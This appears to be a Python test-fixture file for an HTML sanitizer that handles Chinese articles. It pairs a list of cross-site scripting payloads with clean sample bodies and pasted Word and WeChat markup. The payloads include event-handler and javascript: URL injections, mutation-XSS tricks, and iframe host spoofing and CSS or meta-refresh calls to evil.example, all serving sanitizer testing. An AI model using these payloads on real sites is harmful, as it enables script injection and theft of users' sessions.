"""HTML as it comes: attacks, a body with every form, pages of Word and of WeChat."""

# ruff: noqa: E501

# Each would act in a browser if it came through.
ATTACKS = """
<script>alert(1)</script>
<img src=x onerror=alert(1)>
<p onclick="alert(1)" style="position:fixed;inset:0" class="button" id="s1" data-x="y">词</p>
<a href="javascript:alert(1)">词</a>
<a href=" java&#10;script:alert(1)">词</a>
<a href="JaVaScRiPt&colon;alert(1)">词</a>
<a href="data:text/html,<script>alert(1)</script>">词</a>
<a href="vbscript:msgbox(1)">词</a>
<svg onload=alert(1)><circle /></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=9>词</text></a></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<form action="https://evil.example"><input name=q><button formaction="javascript:alert(1)">词</button></form>
<iframe src="https://evil.example/player.bilibili.com/?bvid=BV1xx411c7mD"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src="https://player.bilibili.com.evil.example/player.html?bvid=BV1xx411c7mD"></iframe>
<iframe src="https://player.bilibili.com@evil.example/player.html?bvid=BV1xx411c7mD"></iframe>
<iframe src="javascript://player.bilibili.com/player.html?bvid=BV1xx411c7mD"></iframe>
<video-embed provider="bilibili" video="BV1xx411c7mD&quot; onclick=&quot;alert(1)">词</video-embed>
<video-embed provider="evil" video="BV1xx411c7mD">词</video-embed>
<video-embed><iframe></video-embed><a href="javascript:alert(1)">词</a><script>alert(1)</script></iframe>
<iframe><iframe src="https://v.qq.com/x/page/x0034abcdef.html"></video-embed><img src=x onerror=alert(1)>
<object data="x.swf"><embed src="x.swf"></object>
<style>*{background:url(https://evil.example)}</style>
<link rel=stylesheet href=https://evil.example><base href=https://evil.example>
<meta http-equiv=refresh content="0;url=https://evil.example">
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><img src=x onerror=alert(1)></template>
<textarea><img src=x onerror=alert(1)></textarea>
<title><img src=x onerror=alert(1)></title>
<xmp><img src=x onerror=alert(1)></xmp>
<plaintext><img src=x onerror=alert(1)>
<img src="https://evil.example/pixel.gif"><img src="//evil.example/media/a.webp">
<img src="/media/../admin/a.webp"><img src="/media/a.svg"><img src="/media/a.webp?x=1">
<table background="https://evil.example"><tr><td style="background:url(//evil.example)">词</table>
<p><!--><img src=x onerror=alert(1)>--></p>
<b><p><a href=javascript:alert(1)><table><a href=javascript:alert(2)>词
""".strip().splitlines()

# Every form a body may have, each as the one way to write it.
WHOLE = """
<p>第一段，<strong>加粗</strong>与<em>着重</em>，<a href="https://example.com/?a=1&amp;b=2">链接</a>。</p>
<h2>小标题</h2>
<p>一行<br>又一行，H<sub>2</sub>O 与 x<sup>2</sup>，<s>删去</s>，<code>a &lt; b</code>。</p>
<h3>再小一级</h3>
<ul><li>甲<ul><li>甲之一</li></ul></li><li>乙</li></ul>
<ol start="3"><li>三</li><li><p>四</p><p>四又一段</p></li></ol>
<blockquote><p>引文。</p><p><cite>出处</cite></p></blockquote>
<table><caption>表题</caption><thead><tr><th>项目</th><th>数</th></tr></thead><tbody><tr><td colspan="2">合并</td></tr><tr><th>甲</th><td>1</td></tr></tbody></table>
<figure><img src="/media/pictures/ab/cd.webp" alt="一条河" width="640" height="360"><figcaption>图注，<strong>摄影</strong></figcaption></figure>
<video-embed provider="bilibili" video="BV1xx411c7mD"></video-embed>
<pre><code>if a &lt; b:
    print("**")</code></pre>
<hr>
<p>末段。</p>
""".replace("\n<", "<").strip()

WORD = """
<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><meta charset=utf-8>
<style><!-- p.MsoNormal {mso-style-parent:"";} --></style>
<!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml><![endif]-->
</head><body lang=ZH-CN style='text-justify-trim:punctuation'><!--StartFragment-->
<h1><span style='font-family:黑体'>河岸<span lang=EN-US><o:p></o:p></span></span></h1>
<p class=MsoNormal style='text-indent:21.0pt'><b style='mso-bidi-font-weight:normal'><span
style='font-family:宋体'>记者：</span></b><span style='font-family:宋体'>二期选在南岸，而不是
条件更成熟的北岸？</span><span lang=EN-US><o:p></o:p></span></p>
<p class=MsoNormal><span lang=EN-US><o:p>&nbsp;</o:p></span></p>
<p class=MsoNormal>北岸有楼<span></span>，see
the map。</p>
<table class=MsoTableGrid><tr><td width=99><p class=MsoNormal align=center>年份<o:p></o:p></p></td>
<td><p class=MsoNormal>产值</p></td></tr></table>
<p class=MsoNormal><img width=300 src="file:///C:/x/clip_image001.png"></p>
<!--EndFragment--></body></html>
"""

WECHAT = """
<section data-role="outer" style="font-size:16px;color:#333"><section style="display:flex">
<section><span leaf="" style="letter-spacing:1px">第一段，<span style="font-weight: bold;">加粗</span>的。</span></section>
</section><section powered-by="x"><p style="text-indent:2em"><span><strong>沈知远：</strong>第二段。</span></p>
<p><br></p><p style="text-align:center"><img class="rich_pages" data-src="https://mmbiz.example/640" src="data:image/gif;base64,R0lGOD"></p>
<section>第三段</section><section><br></section></section><mp-common-profile data-id="x"></mp-common-profile>
<iframe class="video_iframe" data-src="https://v.qq.com/iframe/preview.html?vid=x0034abcdef"></iframe></section>
"""
